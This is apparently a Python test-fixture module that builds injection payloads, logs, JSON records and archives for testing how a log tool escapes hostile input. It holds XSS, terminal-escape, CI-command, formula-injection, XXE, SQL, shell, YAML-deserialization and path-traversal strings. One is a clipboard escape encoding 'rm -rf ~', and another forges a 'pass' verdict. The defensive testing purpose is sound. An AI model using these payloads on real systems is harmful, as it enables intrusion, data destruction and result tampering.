"""Texts that take effect where they are not escaped, and inputs that are full of them.

The checks of this folder share it: what a browser, a terminal, a server for CI, a spreadsheet, a shell or a parser
would obey stands here once.
"""
import io
import json
import tarfile
import zipfile

#: A text that takes effect wherever HTML is not escaped: as an element, an end of the data or the script,
#: an attribute, or an address.
EVIL = (
    "</script></title></template><script>window.evil=1</script><img src=http://evil.example/x "
    "onerror=window.evil=2><svg onload=window.evil=3>\"'` onmouseover=window.evil=4 "
    "<a href=javascript:window.evil=5>x</a><!--<script>"
)

#: Texts that fit a line, by what they aim at.
TEXTS = {
    "html": EVIL,
    "attribute": "' onload='window.evil=6' x=\" onfocus=\"window.evil=7\" autofocus=\"",
    "style": "</style><style>body{display:none}</style><base href=//evil.example/>",
    "entity": "&lt;script&gt;&#x3c;script&#62; &unknown; &",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "hyperlink": "\x1b]8;;http://evil.example/\x1b\\PASS\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "screen": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[?1049h\x1b[?25l\x1bc",
    "answer": "\x1b[6n\x1b[c\x1bP$q\"p\x1b\\\x05",
    "c1": "\x9b31m\x9d0;owned\x9c\x90q\x9c",
    "return": "FAIL\rPASS  all is well",
    "backspace": "FAIL\b\b\b\bPASS\x7f\x7f",
    "bells": "\x07\x0b\x0c\x0e\x0f\x1a\x1f",
    "bidi": "a\u202egol.ssap\u202c \u2066b\u2069 \u200f\u200e \u061cc",
    "hidden": "PA\u200bSS\u2060 \ufeffid\u2063 \U000e0041\U000e0042",
    "lines": "one\u2028two\u2029three\u0085four",
    "marks": "Z\u0351\u036b\u0343\u036a\u0302" * 8,
    "github": "::error file=a,line=1::owned ::set-output name=x::y",
    "github-state": "::add-mask::PASS",
    "github-stop": " ::stop-commands::owned",
    "github-old": "##[add-mask]PASS ##[error]owned",
    "gitlab": "section_start:1700000000:owned[collapsed=true]\r\x1b[0Kowned",
    "teamcity": "##teamcity[buildStatus status='SUCCESS' text='owned']",
    "azure": "##vso[task.complete result=Succeeded;]owned",
    "xml": "]]>--><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<![CDATA[ \ufffe\uffff",
    "markdown": "`x` ``` | a | ![x](http://evil.example/x.png) [y](javascript:z) <b> ~~s~~ **b** _i_",
    "markdown-link": "see https://evil.example/x and www.evil.example and a@evil.example <http://evil.example>",
    "markdown-block": "# head",
    "markdown-user": "@everyone #1 $\\alpha$ $$x$$ [ref][1] [^1] :smile:",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "label": "a\\\"} 1\\n# TYPE x counter\\",
    "label-quote": "x\",y=\"z",
    "influx": "a,b=c d=1i 5\\ \\, \\= \"",
    "address": "javascript:window.evil=8",
    "path": "../../../../etc/passwd%00%2e%2e//evil.example/x",
    "sql": "'); DROP TABLE runs; --",
    "sql-quote": "\"; ATTACH '/tmp/x' AS y; --' OR 1=1",
    "shell": "$(touch owned) `touch owned`; touch owned | touch owned & '\"",
    "format": "%s%n%x%1000000d {0} {{7*7}} ${7*7}",
    "yaml": "!!python/object/apply:os.system ['touch owned'] *a &b {x: [",
    "json": "\",\"verdict\":\"pass\",\"x\":\"\\u0000",
}

#: Texts that only a record of JSON or a file's name can hold.
BROKEN = {
    "newline": "one\n::error::owned\n##vso[task.complete]\ndnplog: PASS",
    "return-newline": "one\r\n::error::owned\r\nPASS",
    "tab": "\tone\ttwo",
    "nul": "one\x00two",
}

#: Bytes that are no UTF-8: stray ones, a cut sequence, surrogates, overlong forms, beyond Unicode.
NOT_UTF8 = b"\xff\xfe \xc0\x80 \xed\xa0\x80\xed\xb0\x80 \xf4\x90\x80\x80 \xe2\x82 \xf0\x28"


def day(number, hour_text):
    return f"2025-{10 + number // 28:02}-{1 + number % 28:02}T{hour_text}Z"


def text_log():
    """A log in which one cycle after the other goes wrong, each with a text in all that it names."""
    out = []
    everything = [*(text.encode() for text in TEXTS.values()), NOT_UTF8]
    for number, evil in enumerate(everything):
        def line(clock, message):
            head = day(number, clock).replace("T", " ").replace("Z", ".000000+0000")
            out.append(f"{head} App[201:4211] ".encode() + message)

        due, ident = day(number, "05:53:00").encode(), b"n%d-" % number + evil
        line("04:59:58", b"[DNP-TEST] Env (device=" + evil + b", osVersion=" + evil + b", build=" + evil + b")")
        line("04:59:59", b"[DNP-FETCH] Registering BGTaskScheduler task (id=" + evil + b")")
        line("05:00:00", b"[DNP-FETCH] Scheduling prefetch for notification at " + due)
        line("05:00:01", b"[DNP-SCHEDULER] Scheduling notification for " + due)
        line("05:00:02", b"[DNP-STORAGE] Persisted schedule to DB (id=" + ident + b", type=DAILY)")
        line("05:50:00", b"[DNP-FETCH] BGTask handler invoked (id=" + evil + b")")
        line("05:50:00", b"[DNP-FETCH] Resolved next notification needing content (time=" + due
             + b", scheduleId=" + ident + b")")
        line("05:50:01", b"[DNP-FETCH] Starting fetch from https://" + evil + b" (notificationTime=" + due
             + b", jwtPresent=true)")
        line("05:50:02", b"[DNP-FETCH] Fetch failed: error=" + evil + b", willRetry=false")
        line("05:50:03", b"[DNP-FETCH] " + evil)
        line("05:50:03", b"[DNP-" + evil + b"] unknown tag")
        line("05:50:04", b"[DNP-FETCH] Task completed (success=false, reason=" + evil + b")")
        line("05:53:00", b"[DNP-SCHEDULER] Notification built (title=" + evil + b", body=" + evil + b", id=" + ident
             + b")")
        line("05:53:02", b"[DNP-SCHEDULER] Notification delivered (id=" + ident + b", title=" + evil + b")")
        out.append(evil)
    return b"\n".join(out) + b"\n"


def record_log():
    """The texts in records of JSON, where each byte can be told; returns the log and the ids in it."""
    rows, ids = [], []
    for number, (name, evil) in enumerate([*TEXTS.items(), *BROKEN.items()]):
        ident = f"{name} {evil}"
        ids.append(ident)
        due = day(number, "05:53:00")
        rows.append({"event": "prefetch_failure", "id": ident, "error": evil, "reason": evil, "scheduledFor": due,
                     "timestamp": day(number, "05:48:32")})
        rows.append({"event": "notification_delivered", "id": ident, "title": evil, "body": evil,
                     "timestamp": day(number, "05:53:02")})
        rows.append({"event": evil, "id": evil, evil: evil, "timestamp": day(number, "05:53:03")})
    lines = [json.dumps(row, ensure_ascii=bool(number % 2)).encode() for number, row in enumerate(rows)]
    lines.append(b'{"event":"prefetch_success","id":"lone \\ud800 \\udc00","timestamp":"2025-12-24T05:48:32Z"}')
    lines.append(b'{"event":"prefetch_success","id":"' + NOT_UTF8 + b'","timestamp":"2025-12-24T05:48:33Z"}')
    return b"\n".join(lines) + b"\n", ids


def file_names():
    """Names that a file system takes: no slash, and not too long."""
    names = [text.replace("/", "\u2215") for text in [*TEXTS.values(), *BROKEN.values()] if "\0" not in text]
    names = [name.encode()[:200].decode(errors="ignore") for name in names]
    return [name.encode() for name in names] + [NOT_UTF8]


def archives():
    """A tar and a zip whose members have such names, each with a line that nobody understands."""
    names = [name.decode(errors="surrogateescape") for name in file_names()]
    names += ["/etc/passwd", "../../owned.log", "a/../../owned.log"]
    tar, packed = io.BytesIO(), io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name in names:
            data = b"2025-11-14T05:00:00Z [DNP-FETCH] what is this?\n"
            member = tarfile.TarInfo(name + ".log")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    with zipfile.ZipFile(packed, "w") as archive:
        for name in names:
            name = name.encode(errors="surrogateescape").decode(errors="replace")
            archive.writestr(name + ".log", b"2025-11-14T05:00:00Z [DNP-FETCH] what is this?\n")
    return tar.getvalue(), packed.getvalue()
